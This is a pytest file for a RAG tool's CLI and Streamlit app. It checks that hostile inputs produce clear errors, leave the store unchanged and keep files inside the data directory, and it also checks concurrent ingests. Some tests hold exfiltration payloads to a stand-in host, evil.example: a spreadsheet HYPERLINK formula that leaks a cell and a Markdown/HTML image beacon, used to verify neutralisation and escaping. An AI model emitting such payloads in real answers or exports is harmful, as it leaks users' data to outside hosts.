"""The hostile-input catalogue: every bad input gives a clear message (or works), never a crash,
a hang or a traceback, and never changes what is already stored.

Each case of :mod:`tests.hostile_cases` runs ``python -m ragtune ...`` in a subprocess on a
copy of one seeded data directory (workspace ``team`` with three documents), with the tiny
test model configured. It asserts the exit code (never a signal), a message naming the
problem, no ``Traceback``, and a snapshot of the stored documents and chunk counts taken
before and after. A generous timeout turns a hang into a failure. The paths that exist only
in the web app run through AppTest at the end.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from ragtune.config import PROJECT_ROOT
from tests import hostile_files as hf
from tests.hostile_cases import CASES, Case, fill_argv, fill_env

TIMEOUT_S = 120  # only catches a hang: a case takes a few seconds
SEED_DOCS = {
    "guide.md": "# Gate guide\n\nThe gate code is 4471. The gate closes at 23:00.\n",
    "notes.txt": "Team meeting every Friday at 10:00 in room B.\n",
    "faq.md": "# FAQ\n\n## Parking\n\nVisitors park on level 2.\n\n## Wifi\n\nThe guest wifi password is tidewell.\n",
}


@dataclass
class Run:
    argv: list[str]
    rc: int
    stdout: str
    stderr: str

    @property
    def output(self) -> str:
        return self.stdout + self.stderr

    def describe(self) -> str:
        def head(text: str) -> str:
            lines = text.strip().splitlines()
            return "\n    ".join(lines[:8] + ([f"... ({len(lines) - 8} more lines)"] if len(lines) > 8 else []))

        return (f"\n  argv: {' '.join(self.argv)}\n  exit: {self.rc}\n  stdout:\n    {head(self.stdout)}"
                f"\n  stderr:\n    {head(self.stderr)}")


def cli_env(data: Path, model: Path, home: Path, extra: dict[str, str | None] | None = None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAGTUNE_")}
    env.update({
        "RAGTUNE_DATA_DIR": str(data), "RAGTUNE_MODEL_PATH": str(model), "RAGTUNE_DEMO_WORKSPACE": "",
        "RAGTUNE_N_THREADS": "2", "HOME": str(home), "PYTHONPATH": str(PROJECT_ROOT),
    })
    for key, value in (extra or {}).items():
        if value is None:
            env.pop(key, None)
        else:
            env[key] = value
    return env


def run_cli(argv: list[str], env: dict[str, str], cwd: Path, timeout: float = TIMEOUT_S) -> Run:
    command = [sys.executable, "-m", "ragtune", *argv]
    try:
        done = subprocess.run(command, env=env, cwd=cwd, capture_output=True, text=True, timeout=timeout,
                              stdin=subprocess.DEVNULL, errors="replace")
    except subprocess.TimeoutExpired as exc:
        out = exc.stdout.decode(errors="replace") if isinstance(exc.stdout, bytes) else (exc.stdout or "")
        err = exc.stderr.decode(errors="replace") if isinstance(exc.stderr, bytes) else (exc.stderr or "")
        pytest.fail(f"hang: no exit within {timeout:.0f} s" + Run(argv, -1, out, err).describe())
    return Run(argv, done.returncode, done.stdout, done.stderr)


# -- the seeded data directory, built once per session ---------------------------------------


@pytest.fixture(scope="session")
def seeded(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> Path:
    root = tmp_path_factory.mktemp("hostile-seed")
    docs, data, home = root / "docs", root / "data", root / "home"
    home.mkdir()
    for name, text in SEED_DOCS.items():
        hf.write(docs, name, text)
    run = run_cli(["ingest", "-w", "team", *(str(docs / n) for n in SEED_DOCS)],
                  cli_env(data, tiny_model, home), cwd=root)
    assert run.rc == 0, run.describe()
    stored = hf.documents(data)
    assert [len(stored.get("team", []))] == [3], stored
    assert hf.chunk_counts(data)["team"] == sum(n for _, _, n, _ in stored["team"]), "chunk counts disagree"
    return data


@pytest.fixture(scope="session")
def seeded_big(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> Path:
    """Workspace ``team`` with one document of 1,300 small chunks: chroma persists its HNSW index."""
    root = tmp_path_factory.mktemp("hostile-seed-big")
    home = root / "home"
    home.mkdir()
    text = "# Lockers\n\n" + "\n\n".join(
        f"Paragraph {i} says the locker {i} code is {i * 7919 % 10000:04d}." for i in range(2600))
    path = hf.write(root / "docs", "lockers.md", text)
    env = cli_env(root / "data", tiny_model, home, {"RAGTUNE_CHUNK_SIZE": "100", "RAGTUNE_CHUNK_OVERLAP": "0"})
    run = run_cli(["ingest", "-w", "team", str(path)], env, cwd=root, timeout=600)
    assert run.rc == 0, run.describe()
    assert hf.chunk_counts(root / "data")["team"] > 1000, run.describe()
    return root / "data"


@pytest.fixture()
def work(tmp_path: Path, seeded: Path) -> Path:
    """A case's folder: ``data`` is a fresh copy of the seeded data dir; ``home`` its HOME.

    Nested two levels deep so that a name like ``../../../x`` still lands inside ``tmp_path``.
    """
    folder = tmp_path / "case" / "work"
    shutil.copytree(seeded, folder / "data")
    (folder / "home").mkdir()
    return folder


def check_output(case: Case, run: Run) -> None:
    assert run.rc >= 0 and run.rc < 128, f"killed by a signal or aborted{run.describe()}"
    assert "Traceback" not in run.output, f"a traceback reached the user{run.describe()}"
    assert run.rc in case.exit, f"exit {run.rc}, expected {case.exit}{run.describe()}"
    text = run.stderr if case.where == "stderr" else run.output
    for regex in case.message:
        assert re.search(regex, text, flags=re.IGNORECASE), f"no message matching {regex!r}{run.describe()}"
    if run.rc != 0:
        for regex in case.message_if_failed:
            assert re.search(regex, text, flags=re.IGNORECASE), f"no reason matching {regex!r}{run.describe()}"
    for regex in case.forbid:
        assert not re.search(regex, run.output), f"output matches forbidden {regex!r}{run.describe()}"
    if case.one_error_line:
        errors = [line for line in run.stderr.splitlines() if "error" in line.lower()]
        assert len(errors) == 1, f"expected one error line, got {len(errors)}{run.describe()}"


def check_store(case: Case, run: Run, data: Path, before: dict[str, object]) -> None:
    after = hf.snapshot(data)
    if case.store == "unchanged":
        assert after == before, f"the store changed: {before} -> {after}{run.describe()}"
        return
    expected_new = case.new_docs(run.rc) if callable(case.new_docs) else case.new_docs
    docs_before, docs_after = before["documents"], after["documents"]
    assert isinstance(docs_before, dict) and isinstance(docs_after, dict)
    for name, rows in docs_before.items():
        assert docs_after.get(name) == rows, f"workspace {name} changed: {rows} -> {docs_after.get(name)}"
    assert {k: v for k, v in after.items() if k != "documents" and k != "chunks"} == {
        k: v for k, v in before.items() if k != "documents" and k != "chunks"}
    chunks_before, chunks_after = before["chunks"], after["chunks"]
    assert isinstance(chunks_before, dict) and isinstance(chunks_after, dict)
    for name, n in chunks_before.items():
        assert chunks_after.get(name) == n, f"chunk count of {name}: {n} -> {chunks_after.get(name)}"
    for name, n_docs in expected_new.items():
        rows = docs_after.get(name, [])
        assert len(rows) == n_docs, (
            f"workspace {name}: {len(rows)} documents {[r[0] for r in rows]}, expected {n_docs}{run.describe()}")
        assert chunks_after.get(name) == sum(r[2] for r in rows), f"orphan or missing chunks in {name}"
    assert set(docs_after) <= set(docs_before) | set(expected_new), f"unexpected workspaces: {set(docs_after)}"


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(case: Case, work: Path, tiny_model: Path, request: pytest.FixtureRequest) -> None:
    if case.root_skips and os.geteuid() == 0:
        pytest.skip("running as root: file permissions do not apply")
    data = work / "data"
    if case.seed == "big":
        shutil.rmtree(data)
        shutil.copytree(request.getfixturevalue("seeded_big"), data)
    values = {"work": str(work), "data": str(data), "model": str(tiny_model)}
    if case.files is not None:
        case.files(work, tiny_model)
    damaged = case.prepare(data) if case.prepare is not None else None
    before = hf.snapshot(data) if damaged is None else None
    damaged_digest = hf.file_digest(damaged) if damaged is not None else None
    outside = hf.tree(work.parent) - hf.tree(data) if case.outside_untouched else None
    env = cli_env(data, tiny_model, work / "home", fill_env(case, values))

    run = run_cli(fill_argv(case, values), env, cwd=work)
    check_output(case, run)

    if damaged is not None:
        assert damaged.is_file() and hf.file_digest(damaged) == damaged_digest, (
            f"the damaged file {damaged} was changed or removed{run.describe()}")
    else:
        assert before is not None
        check_store(case, run, data, before)
    if outside is not None:
        now = {p for p in hf.tree(work.parent) if not p.startswith("work/data/") and p != "work/data"}
        was = {p for p in outside if not p.startswith("work/data/") and p != "work/data"}
        assert now == was, f"written outside the data directory: {sorted(now - was)}{run.describe()}"
        assert not Path("/tmp/ragtune-hostile-x.gguf").exists()
    if case.reingest:
        again_before = hf.snapshot(data)
        again = run_cli(fill_argv(case, values), env, cwd=work)
        assert again.rc == 0 and "Traceback" not in again.output, again.describe()
        n_files = sum(case.new_docs.values()) if isinstance(case.new_docs, dict) else 0
        assert len(re.findall(r": unchanged ", again.stdout)) == n_files, f"re-ingest not a no-op{again.describe()}"
        assert hf.snapshot(data) == again_before, f"re-ingesting the same files changed the store{again.describe()}"


# -- concurrency: two processes create the same new workspace at once -------------------------


def test_two_ingests_creating_the_same_workspace_at_once_keep_every_file(work: Path, tiny_model: Path) -> None:
    data = work / "data"
    before = hf.snapshot(data)
    for side in ("left", "right"):
        for i in range(3):
            hf.write(work / side, f"{side}-{i}.md", f"# {side} {i}\n\nThe {side} file number {i}.\n")
    env = cli_env(data, tiny_model, work / "home")
    procs = [
        subprocess.Popen([sys.executable, "-m", "ragtune", "ingest", "-w", "shared", str(work / side)],
                         env=env, cwd=work, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                         stdin=subprocess.DEVNULL)
        for side in ("left", "right")
    ]
    runs = []
    for proc in procs:
        try:
            out, err = proc.communicate(timeout=TIMEOUT_S)
        except subprocess.TimeoutExpired:
            for p in procs:
                p.kill()
            pytest.fail("hang: concurrent ingests did not finish")
        runs.append(Run(list(map(str, proc.args)), proc.returncode, out, err))
    for run in runs:
        assert run.rc == 0 and "Traceback" not in run.output, run.describe()
    after = hf.snapshot(data)
    docs = after["documents"]
    assert isinstance(docs, dict) and isinstance(before["documents"], dict)
    assert docs["team"] == before["documents"]["team"]
    assert len(docs.get("shared", [])) == 6, f"{docs.get('shared')}" + "".join(r.describe() for r in runs)


# -- the web app's own paths (AppTest) --------------------------------------------------------


def _texts(at: object) -> str:
    parts = []
    for kind in ("markdown", "caption", "error", "warning", "info", "success", "text", "code"):
        parts += [str(e.value) for e in getattr(at, kind)]
    return "\n".join(parts)


@pytest.fixture()
def web(monkeypatch: pytest.MonkeyPatch, tiny_model: Path) -> None:
    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")
    monkeypatch.setenv("RAGTUNE_MODEL_PATH", str(tiny_model))
    monkeypatch.delenv("RAGTUNE_ALLOW_SERVER_PATHS", raising=False)


def test_ui_adapters_upload_of_a_string_alpha_adapter_is_refused_and_nothing_stored(
    web: None, data_dir: Path, tmp_path: Path
) -> None:
    from streamlit.testing.v1 import AppTest

    bad = hf.string_alpha_lora(tmp_path)
    at = AppTest.from_file(str(PROJECT_ROOT / "app_pages" / "adapters.py"), default_timeout=120).run()
    assert not at.exception, at.exception
    before = hf.snapshot(data_dir)
    at.file_uploader(key="ad_upload").set_value((bad.name, bad.read_bytes(), "application/octet-stream"))
    at.run()
    at.button(key="ad_upload_save").click().run()
    assert not at.exception, at.exception
    errors = [e.value for e in at.error]
    assert any(re.search(r"alpha", e) for e in errors), f"no error naming alpha: {errors}"
    assert hf.snapshot(data_dir) == before
    assert not list((data_dir / "adapters").glob("*.gguf")) if (data_dir / "adapters").is_dir() else True


def test_ui_server_path_inputs_are_absent_by_default(web: None, data_dir: Path) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=120).run()
    at.switch_page("app_pages/playground.py").run()  # where the adapter path input would be
    assert not at.exception, at.exception
    keys = {w.key for w in at.text_input}
    assert "add_model_path" not in keys and "pg_adapter_path" not in keys, keys
    assert not [b for b in at.button if b.key in ("add_model_button", "pg_load_path")]


def _logged(query: str, answer_text: str) -> object:
    """A logged answer (the History page's input) with this query and this answer text."""
    from ragtune.answer import ParseReport
    from ragtune.prompts import GroundedAnswer
    from tests.test_store import answer

    parsed = GroundedAnswer(answer=answer_text, citations=["poolpilot#0"], confidence="high")
    return answer("base").model_copy(
        update={"query": query, "text": parsed.to_json(), "parse": ParseReport(status="ok", parsed=parsed)})


def test_ui_history_csv_export_neutralises_a_formula_query(
    web: None, data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import AppTest

    from ragtune.config import load_settings
    from ragtune.store import QueryLog

    served: list[bytes] = []  # what the page hands Streamlit to serve as downloads
    original_add = MediaFileManager.add

    def recording_add(self: MediaFileManager, path_or_data: object, *args: object, **kwargs: object) -> str:
        if isinstance(path_or_data, bytes):
            served.append(path_or_data)
        return original_add(self, path_or_data, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(MediaFileManager, "add", recording_add)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    QueryLog(load_settings().query_log_file).add(_logged(formula, "An answer."))
    at = AppTest.from_file(str(PROJECT_ROOT / "app_pages" / "history.py"), default_timeout=60).run()
    assert not at.exception, at.exception
    assert any(b.proto.label == "Export these queries (CSV)" for b in at.get("download_button"))
    exports = [data.decode("utf-8") for data in served if b"HYPERLINK" in data]
    assert exports, "the export does not hold the logged query"
    rows = list(csv.DictReader(io.StringIO(exports[-1])))
    assert [r["query"] for r in rows] == ["'" + formula], [r["query"] for r in rows]
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "@", "\t", "\r")), row


def test_ui_a_markdown_image_beacon_in_an_answer_is_rendered_escaped(web: None, data_dir: Path) -> None:
    from streamlit.testing.v1 import AppTest

    from ragtune.config import load_settings
    from ragtune.store import QueryLog

    beacon = "Sure. ![pixel](http://evil.example/beacon.png?q=secret) <img src=http://evil.example/i.png>"
    QueryLog(load_settings().query_log_file).add(_logged("What is the badge code?", beacon))
    at = AppTest.from_file(str(PROJECT_ROOT / "app_pages" / "history.py"), default_timeout=60)
    at.run()
    at.session_state["hist_table"] = {"selection": {"rows": [0], "columns": [], "cells": []}}
    at.run()
    assert not at.exception, at.exception
    assert "evil.example" in _texts(at), "the answer is not shown at all"
    for kind in ("markdown", "caption", "info", "warning", "success", "error"):
        for element in getattr(at, kind):
            value = str(element.value)
            if "evil.example" not in value:
                continue
            assert "![pixel](http" not in value, f"a remote image is rendered as Markdown: {value!r}"
            assert not getattr(element.proto, "allow_html", False), f"raw HTML is allowed: {value!r}"
    assert not any("evil.example" in str(e.proto) for e in at.get("html")), "raw HTML carries the beacon"
